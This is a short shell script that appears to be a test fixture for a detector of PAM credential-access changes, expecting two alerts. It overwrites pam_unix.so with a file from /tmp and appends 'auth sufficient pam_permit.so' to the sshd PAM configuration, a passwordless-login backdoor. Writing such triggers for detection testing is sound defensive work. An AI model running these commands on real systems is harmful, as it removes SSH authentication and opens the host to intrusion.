#!/bin/sh
# A PAM module is put into place, and a service is set to need no password.
# expects: credential_access_pam_changed 2

mkdir -p /lib/x86_64-linux-gnu/security /etc/pam.d
touch /tmp/pam_unix.so
cp /tmp/pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so
sh -c "echo 'auth sufficient pam_permit.so' >> /etc/pam.d/sshd"
